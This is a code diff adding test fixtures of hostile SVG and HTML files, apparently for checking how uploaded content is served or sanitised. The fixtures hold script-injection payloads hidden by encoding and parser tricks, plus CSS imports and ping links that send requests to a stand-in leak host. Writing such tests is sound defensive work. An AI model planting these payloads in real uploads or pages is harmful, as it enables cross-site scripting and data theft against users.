@@ -80,6 +80,14 @@ const DRAWINGS: Files = {
   ),
   "utf16.svg": Buffer.from(`\ufeff${svg("<script>hebi()</script>")}`, "utf16le"),
   "utf7.svg": `<?xml version="1.0" encoding="UTF-7"?>${svg("+ADw-script+AD4-hebi()+ADw-/script+AD4-")}`,
+  "parted.svg": svg(
+    '<style>@imp<!-- -->ort "https://leak.invalid/a.css"; rect{fill:ur<![CDATA[l(https://leak.invalid/b)]]>}</style>',
+  ),
+  "declared.svg": `<!DOCTYPE svg SYSTEM "a]>b" [<!ATTLIST svg onload CDATA "hebi()">]>${svg("")}`,
+  "far.svg": `<?xml version="1.0" ${" ".repeat(300)}encoding="shift_jis"?>${svg(
+    "<desc><![CDATA[\u3041]]><!-- ]]></desc><script>hebi()</script><desc><![CDATA[ --><!-- ]]> --></desc>",
+  )}`,
+  "ping.svg": svg('<a href="https://example.org" ping="https://leak.invalid/"><text>a</text></a>'),
   "latin.svg": Buffer.from(
     `<?xml version="1.0" encoding="latin1"?>${svg("<script>hebi()</script>é")}`,
     "latin1",
@@ -90,6 +98,9 @@ const PAGES: Files = {
   "page.html": "<script>hebi()</script>",
   "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>hebi()</script></html>',
   "feed.xml": '<a><script xmlns="http://www.w3.org/1999/xhtml">hebi()</script></a>',
+  "page.xbl": '<a><script xmlns="http://www.w3.org/1999/xhtml">hebi()</script></a>',
+  "page.mhtml": "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>hebi()</script>",
+  page: "<!DOCTYPE html><script>hebi()</script>",
   "page.txt": "<script>hebi()</script>",
   "code.js": "hebi()",
   "data.csv": "a,b\n<script>hebi()</script>,1\n",
